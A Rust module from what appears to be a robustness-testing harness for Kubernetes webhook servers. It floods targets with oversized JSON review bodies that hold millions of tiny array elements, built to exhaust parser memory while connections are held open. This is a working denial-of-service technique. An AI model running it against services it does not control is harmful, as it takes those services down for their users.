//! Sends reviews with millions of small values.

use super::{Attack, LARGEST};
use crate::{aim::Aim, target::Target};
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "small-values",
    about: "Sends reviews with millions of small values",
    targets: &[Target::Webhooks],
    attackers: 8,
    once: |aim| once(aim).boxed(),
};

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect().await?;
    let post = aim.requests.any_post();
    let (before, value, after) =
        if post.starts_with("POST /convert ") { CONVERSION } else { REVIEWS[fastrand::usize(..REVIEWS.len())] };
    let size = fastrand::usize(1 << 20..LARGEST) - before.len() - after.len();
    let body = format!("{before}{value}{}{after}", format!(",{value}").repeat(size / (value.len() + 1) - 1));
    let head = format!("{post}connection: close\r\ncontent-length: {}\r\n\r\n", body.len());
    stream.write_all(format!("{head}{body}").as_bytes()).await?;
    aim.hold(stream).await;
    Ok(())
}

/// The text before the values, a value, and the text after the values.
type Body = (&'static str, &'static str, &'static str);

const CONVERSION: Body = (
    "{\"apiVersion\":\"apiextensions.k8s.io/v1\",\"kind\":\"ConversionReview\",\"request\":{\"uid\":\"a\",\
     \"desiredAPIVersion\":\"example.com/v2\",\"objects\":[",
    "0",
    "]}}",
);
/// Lists that each object may have, whose elements need more memory than text.
const REVIEWS: [Body; 4] = [
    ("{\"request\":{\"uid\":\"a\",\"object\":{\"metadata\":{},\"spec\":{\"numbers\":[", "0", "]}}}}"),
    ("{\"request\":{\"uid\":\"a\",\"object\":{\"spec\":{},\"metadata\":{\"finalizers\":[", "\"\"", "]}}}}"),
    ("{\"request\":{\"uid\":\"a\",\"object\":{\"spec\":{},\"metadata\":{\"ownerReferences\":[", "{}", "]}}}}"),
    ("{\"request\":{\"uid\":\"a\",\"object\":{\"spec\":{},\"metadata\":{\"managedFields\":[", "{}", "]}}}}"),
];
